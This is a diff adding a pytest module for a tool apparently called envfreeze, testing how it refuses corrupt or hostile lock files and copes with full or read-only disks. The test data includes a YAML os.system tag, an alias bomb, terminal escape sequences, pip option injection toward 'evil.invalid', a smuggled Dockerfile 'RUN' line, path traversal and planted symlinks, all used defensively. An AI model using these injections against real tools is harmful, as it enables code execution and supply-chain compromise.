@@ -1,0 +1,420 @@
+"""Bad input and failing machines, as a user meets them: one sentence, the right exit code, nothing half-written."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from envfreeze.records.environment import SystemPackage
+from envfreeze.records.files import FileEntry, Gap
+from envfreeze.records.lock import Lock
+
+from ._hostile import change, copied, freeze_project, traces, with_package, with_run
+from .conftest import ENGINES, Result, run
+
+
+@pytest.fixture(scope="session")
+def frozen(tmp_path_factory: pytest.TempPathFactory, bare_environment: Path) -> Path:
+    return freeze_project(tmp_path_factory.mktemp("bad") / "project", bare_environment)
+
+
+@pytest.fixture
+def spoiled(frozen: Path, tmp_path: Path) -> Path:
+    """A copy of a frozen project."""
+    return copied(frozen, tmp_path / "project")
+
+
+def refused(done: Result, code: int, *words: str) -> None:
+    """One sentence (and perhaps one hint) on standard error, in human words, with this exit code."""
+    assert done.returncode == code, (done.returncode, done.stdout, done.stderr)
+    told = [line for line in done.stderr.splitlines() if not line.startswith(("· ", "! "))]
+    assert told[0].startswith("envfreeze: ") and told[0].endswith("."), told
+    assert len(told) <= 2 and all(line.startswith("  ") for line in told[1:]), told
+    assert "fault in envfreeze" not in done.stderr
+    for word in words:
+        assert word in done.stderr, done.stderr
+
+
+COMMANDS = [("show",), ("build", "--engine", "local"), ("replay", "--engine", "local")]
+
+
+@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command[0])
+def test_no_lock(tmp_path: Path, command: tuple[str, ...]) -> None:
+    refused(run(*command, cwd=tmp_path), 2, "there is no", "envfreeze.lock", "envfreeze freeze -- python")
+    assert list(tmp_path.iterdir()) == []
+
+
+def truncated(text: str) -> str:
+    return text[: text.index("entries:") + 30]
+
+
+def bomb(text: str) -> str:
+    lines = ["a0: &a0 [x, x]", *(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 60))]
+    return text + "\n".join(lines) + "\n"
+
+
+@pytest.mark.parametrize(
+    ("spoil", "words"),
+    [
+        (lambda text: "", ("is not an envfreeze lock",)),
+        (truncated, ("envfreeze.lock line", "Restore the file")),
+        (lambda text: text.replace("processes: 1", "processes: one"), ("run.processes", "line ")),
+        (
+            lambda text: text.replace("envfreeze_lock: 1", "envfreeze_lock: 9"),
+            ("newer envfreeze", "pip install"),
+        ),
+        (lambda text: text + "gaps: !!python/object/apply:os.system [touch owned]\n", ("tag", "not allowed")),
+        (bomb, ("anchors and aliases",)),
+    ],
+    ids=["empty", "truncated", "hand-edited", "newer", "python tag", "bomb"],
+)
+def test_an_unusable_lock(spoiled: Path, spoil: Callable[[str], str], words: tuple[str, ...]) -> None:
+    lock = spoiled / "envfreeze.lock"
+    lock.write_text(spoil(lock.read_text()))
+    before = traces(spoiled)
+    for command in COMMANDS:
+        refused(run(*command, cwd=spoiled), 2, *words)
+    assert traces(spoiled) == before
+    assert not (spoiled / "owned").exists()
+
+
+def test_a_lock_that_is_no_file_at_all(spoiled: Path) -> None:
+    lock = spoiled / "envfreeze.lock"
+    lock.write_bytes(os.urandom(4096))
+    refused(run("replay", cwd=spoiled), 2, "not UTF-8 text")
+    lock.unlink()
+    lock.mkdir()
+    refused(run("replay", cwd=spoiled), 2, "is a folder")
+    freeze = run("freeze", "--offline", "--", "python", "-c", "open('ran', 'w')", cwd=spoiled)
+    refused(freeze, 2, "is a folder", "Move that folder away")
+    assert not (spoiled / "ran").exists(), "an hour of training is not begun when its lock cannot be written"
+    lock.rmdir()
+    os.mkfifo(lock)
+    refused(run("show", cwd=spoiled), 2, "no regular file")
+
+
+def test_a_command_that_does_not_exist_leaves_nothing_behind(tmp_path: Path, spoiled: Path) -> None:
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    refused(run("freeze", "--", "no-such-program", cwd=empty), 2, "'no-such-program' was not found")
+    refused(run("freeze", "--", "./train.py", cwd=empty), 2, "does not exist")
+    assert list(empty.iterdir()) == []
+    before = (spoiled / "envfreeze.lock").read_bytes()
+    refused(run("freeze", "--", "no-such-program", cwd=spoiled), 2)
+    assert (spoiled / "envfreeze.lock").read_bytes() == before
+
+
+def test_folders_that_do_not_exist(spoiled: Path) -> None:
+    refused(run("freeze", "--project", "nowhere", "--", "true", cwd=spoiled), 2, "nowhere", "does not exist")
+    refused(run("replay", "--code", "nowhere", cwd=spoiled), 2, "--code nowhere")
+    refused(run("diff", "nowhere", "neither", cwd=spoiled), 2, "nowhere")
+    refused(run("diff", "hold.py", ".", cwd=spoiled), 2, "is a file", "is a folder")
+    assert not (spoiled / "nowhere").exists()
+
+
+@pytest.mark.index
+@pytest.mark.parametrize("engine", ENGINES)
+def test_a_pinned_version_that_no_index_has(spoiled: Path, engine: str) -> None:
+    change(spoiled, with_package(name="six", version="99.99.99", file="six-99.99.99-py3-none-any.whl"))
+    refused(run("build", "--engine", engine, cwd=spoiled), 2, "no package index has", "six==99.99.99")
+    assert traces(spoiled) == []
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+def test_a_damaged_store(spoiled: Path, engine: str) -> None:
+    objects = [
+        path for path in (spoiled / ".envfreeze" / "objects").glob("*/*") if b"sleep" in path.read_bytes()
+    ]
+    assert len(objects) == 1
+    objects[0].chmod(0o644)
+    objects[0].write_bytes(objects[0].read_bytes() + b"print('tampered')\n")
+    done = run("replay", "--engine", engine, cwd=spoiled)
+    refused(done, 2, "hold.py is damaged in the store", "does not match its digest")
+    assert "tampered" not in done.stdout
+    assert not [trace for trace in traces(spoiled) if trace.startswith(("tmp", "runs"))]
+    objects[0].unlink()
+    (spoiled / "hold.py").unlink()
+    refused(run("replay", "--engine", engine, cwd=spoiled), 2, "hold.py is neither in")
+
+
+def test_a_damaged_original_output_is_not_called_reproduced(spoiled: Path) -> None:
+    for path in (spoiled / ".envfreeze" / "objects").glob("*/*"):
+        if path.read_bytes() == b"early":
+            path.chmod(0o644)
+            path.write_bytes(b"late")
+    done = run("replay", "--engine", "local", "--json", cwd=spoiled)
+    assert done.returncode == 1
+    assert {o["path"]: o["verdict"] for o in done.json["outputs"]}["out/early.txt"] == "uncompared"
+
+
+# What a stranger may write into a lock.
+
+HOSTILE = "\x1b[2J\x1b]0;owned\x07"
+
+
+def test_escape_sequences_of_a_lock_do_not_reach_the_terminal(spoiled: Path) -> None:
+    def edit(lock: Lock) -> Lock:
+        lock = with_package(name=f"x{HOSTILE}")(lock)
+        lock = with_run(command=("python", f"-c{HOSTILE}"), environment={f"OMP_{HOSTILE}": HOSTILE})(lock)
+        system = msgspec.structs.replace(
+            lock.system,
+            kernel=HOSTILE,
+            packages=(SystemPackage(name=HOSTILE, version=HOSTILE, manager="dpkg"),),
+        )
+        interpreter = msgspec.structs.replace(lock.interpreter, build=HOSTILE, executable=HOSTILE)
+        gaps = (Gap(what=HOSTILE, why=HOSTILE),)
+        return msgspec.structs.replace(lock, system=system, interpreter=interpreter, gaps=gaps)
+
+    change(spoiled, edit)
+    for command in (("show",), ("show", "--json"), ("build", "--engine", "local"), ("replay", "-v")):
+        done = run(*command, cwd=spoiled, env={"FORCE_COLOR": ""})
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", done.stdout + done.stderr), command
+    assert "owned" in run("show", cwd=spoiled).stdout
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+@pytest.mark.parametrize(
+    "edit",
+    [
+        with_package(name="x\n--index-url http://evil.invalid/"),
+        with_package(version="1\n--extra-index-url http://evil.invalid/"),
+        with_package(index="http://evil.invalid/\n--trusted-host evil.invalid"),
+        with_package(source="url", url="http://evil.invalid/x.whl --no-deps\n-r /etc/passwd"),
+        with_package(vendored=True, file="../../../x-1-py3-none-any.whl", name="x"),
+        lambda lock: msgspec.structs.replace(
+            lock, base=msgspec.structs.replace(lock.base, reference="python:3.11-slim\nRUN evil")
+        ),
+    ],
+    ids=["name", "version", "index", "url", "file", "base"],
+)
+def test_nothing_of_a_lock_becomes_an_option_or_an_instruction(
+    spoiled: Path, edit: Callable[[Lock], Lock], engine: str
+) -> None:
+    change(spoiled, edit)
+    refused(run("build", "--engine", engine, cwd=spoiled), 2)
+    assert traces(spoiled) == []
+
+
+def test_paths_that_climb_out_are_refused(spoiled: Path) -> None:
+    lock = spoiled / "envfreeze.lock"
+    text = lock.read_text()
+    for old, new in (
+        ("path: out/early.txt", "path: ../../early.txt"),
+        ("path: hold.py", "path: out/../../hold.py"),
+        ("  - out\n", "  - ../out\n"),
+        (f"directory: {_of(text, 'directory')}", "directory: /tmp/../etc"),
+        (f"project: {_of(text, 'project')}", "project: here"),
+    ):
+        assert old in text
+        lock.write_text(text.replace(old, new))
+        refused(run("replay", "--engine", "local", cwd=spoiled), 2, "envfreeze.lock line")
+
+
+def _of(text: str, field: str) -> str:
+    found = re.search(rf"^  {field}: (.*)$", text, re.MULTILINE)
+    assert found
+    return found[1]
+
+
+WRITES = "import sys\nopen('owned-by-a-replay', 'w').write('x')\nopen(sys.argv[1], 'w').write('x')\n"
+
+
+@pytest.mark.parametrize("machine", ["isolating", "bare"])
+@pytest.mark.parametrize("place", ["/etc", "/", "victim"])
+def test_the_local_engine_writes_nowhere_but_in_its_workspace(
+    tmp_path: Path, bare_environment: Path, place: str, machine: str
+) -> None:
+    """Not even where bubblewrap and namespaces are missing does a lock choose where relative paths lead."""
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    target = str(victim) if place == "victim" else place
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "writes.py").write_text(WRITES)
+    run(
+        "freeze",
+        "--offline",
+        "-q",
+        "--",
+        "python",
+        "writes.py",
+        "plain",
+        cwd=project,
+        path=[bare_environment],
+    )
+    change(project, with_run(directory=target, project=target, folders=()))
+    env = {} if machine == "isolating" else {"PATH": str(_without_sandbox(tmp_path))}
+    for edit in (
+        with_run(),
+        with_run(project=str(tmp_path / "project"), command=("python", "-c", WRITES, "plain")),
+    ):
+        change(project, edit)
+        done = run("replay", "--engine", "local", "--json", cwd=project, env=env)
+        assert done.returncode in (0, 1), done.stderr
+        assert ("keeps the command from this machine's other files" in done.stderr) == (
+            not any("file system" in word for word in done.json["run"]["isolated"])
+        )
+    assert not Path(target, "owned-by-a-replay").exists()
+    assert not Path(target, "plain").exists()
+
+
+def _without_sandbox(folder: Path) -> Path:
+    """A PATH without bwrap and unshare."""
+    programs = folder / "programs"
+    programs.mkdir()
+    for name in ("sh", "env", "true", "ip"):
+        if found := shutil.which(name):
+            (programs / name).symlink_to(found)
+    return programs
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+def test_links_and_outside_files_of_a_lock_lead_nowhere(spoiled: Path, tmp_path: Path, engine: str) -> None:
+    """A link of the project to a folder of the victim, and a file recorded to lie in it."""
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "notes.txt").write_text("mine")
+
+    def edit(lock: Lock) -> Lock:
+        assert lock.run is not None
+        entry = lock.run.files.entries[0]
+        evil = (
+            FileEntry(path="trap", link=str(victim)),
+            msgspec.structs.replace(entry, path="trap/notes.txt"),
+            msgspec.structs.replace(entry, path=f"{victim}/planted.txt"),
+        )
+        files = msgspec.structs.replace(lock.run.files, entries=(*lock.run.files.entries, *evil))
+        return with_run(files=files)(lock)
+
+    change(spoiled, edit)
+    refused(run("replay", "--engine", engine, cwd=spoiled), 2, "in its way")
+    assert [path.name for path in victim.iterdir()] == ["notes.txt"]
+    assert (victim / "notes.txt").read_text() == "mine"
+
+
+# Machines that fail.
+
+
+@pytest.fixture
+def mounted(tmp_path: Path) -> Iterator[Callable[[str], Path]]:
+    """Mounts a small file system with the given options."""
+    folder = tmp_path / "mounted"
+    folder.mkdir()
+
+    def mount(options: str) -> Path:
+        command = ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)]
+        if subprocess.run(command, capture_output=True).returncode:
+            pytest.skip("mounting a small disk needs root")
+        return folder
+
+    yield mount
+    subprocess.run(["umount", "-l", str(folder)], capture_output=True)
+
+
+def test_a_full_disk(mounted: Callable[[str], Path], bare_environment: Path) -> None:
+    project = freeze_project(mounted("size=3m") / "project", bare_environment)
+    before = (project / "envfreeze.lock").read_bytes()
+    for program in ("open('big.bin', 'wb').write(bytes(2000000))", "print('x' * 2800000)"):
+        done = run("freeze", "--offline", "--", "python", "-c", program, cwd=project, path=[bare_environment])
+        refused(done, 3, "no space left", str(project), "Free some space")
+        assert traces(project) == []
+        assert (project / "envfreeze.lock").read_bytes() == before
+        (project / "big.bin").unlink(missing_ok=True)
+    fill(project / "fill")
+    for engine in ("local", *(["docker"] if _docker_works() else [])):
+        done = run("replay", "--engine", engine, cwd=project)
+        assert "no space left" in done.stderr.lower(), done.stderr
+        refused(done, 3, "Free some space")
+        assert traces(project) == []
+    (project / "fill").unlink()
+    assert run("replay", "--engine", "local", cwd=project).returncode == 0
+
+
+def fill(path: Path) -> None:
+    """Take all the space that is left on the disk."""
+    with path.open("wb", buffering=0) as stream:
+        for size in (1 << 16, 1 << 10, 1):
+            try:
+                while stream.write(b"x" * size):
+                    pass
+            except OSError:
+                continue
+
+
+def _docker_works() -> bool:
+    import docker
+
+    try:
+        client = docker.from_env(timeout=5)
+        client.ping()
+        client.close()
+    except docker.errors.DockerException:
+        return False
+    return True
+
+
+def test_an_output_larger_than_files_may_be(spoiled: Path, bare_environment: Path) -> None:
+    """The same without root: a limit on the size of files instead of a full disk."""
+    before = (spoiled / "envfreeze.lock").read_bytes()
+    script = "ulimit -f 64 && exec " + " ".join([sys.executable, "-m", "envfreeze", "freeze", "--offline"])
+    script += " -- python -c 'print(\"x\" * 1000000)'"
+    env = os.environ | {"PATH": f"{bare_environment}:{os.environ['PATH']}"}
+    done = subprocess.run(["bash", "-c", script], cwd=spoiled, env=env, capture_output=True, text=True)
+    refused(Result(done.args, done.returncode, done.stdout, done.stderr), 3, "file too large")
+    assert traces(spoiled) == []
+    assert (spoiled / "envfreeze.lock").read_bytes() == before
+
+
+def test_a_read_only_folder(mounted: Callable[[str], Path], frozen: Path, bare_environment: Path) -> None:
+    folder = mounted("size=4m")
+    project = copied(frozen, folder / "project")
+    subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
+    before = (project / "envfreeze.lock").read_bytes()
+    freeze = run(
+        "freeze", "--offline", "--", "python", "-c", "print('ran')", cwd=project, path=[bare_environment]
+    )
+    refused(freeze, 3, "read-only file system", "copy the project")
+    assert "ran" not in freeze.stdout
+    done = run("replay", "--engine", "local", cwd=project)
+    assert "read-only file system" in done.stderr.lower()
+    refused(done, 3)
+    assert run("show", cwd=project).returncode == 0, "reading needs no writing"
+    assert run("diff", ".", ".", cwd=project).returncode == 0
+    assert (project / "envfreeze.lock").read_bytes() == before
+
+
+@pytest.mark.skipif(os.geteuid() == 0 and not shutil.which("setpriv"), reason="needs another user")
+def test_a_folder_without_permission(frozen: Path, tmp_path: Path) -> None:
+    project = copied(frozen, tmp_path / "project")
+    project.chmod(0o555)
+    (project / ".envfreeze").chmod(0o555)
+    (project / ".envfreeze" / "lock").chmod(0o444)
+    script = (
+        "import os, sys; sys.argv = ['envfreeze', *sys.argv[1:]]\n"
+        "if os.geteuid() == 0: os.setgroups([]); os.setgid(65534); os.setuid(65534)\n"
+        "from envfreeze.cli._main import run; sys.exit(run(sys.argv[1:]))"
+    )
+    for parent in project.parents:
+        if parent.stat().st_uid == os.geteuid() and parent != Path("/"):
+            parent.chmod(parent.stat().st_mode | 0o555)
+    warm = "import envfreeze.observer.watch, envfreeze.workflow, envfreeze.records.lockfile\n"
+    command = [sys.executable, "-c", warm + script, "freeze", "--offline", "--", "/bin/true"]
+    done = subprocess.run(command, cwd=project, capture_output=True, text=True)
+    project.chmod(0o755)
+    refused(Result(done.args, done.returncode, done.stdout, done.stderr), 3, "permission denied")
+
+
+def test_failures_as_json_are_one_object(spoiled: Path) -> None:
+    done = run("replay", "--engine", "nowhere", "--json", cwd=spoiled)
+    assert done.returncode == 2
+    error = json.loads(done.stdout)["error"]
+    assert error["exit_code"] == 2 and "'nowhere'" in error["sentence"]
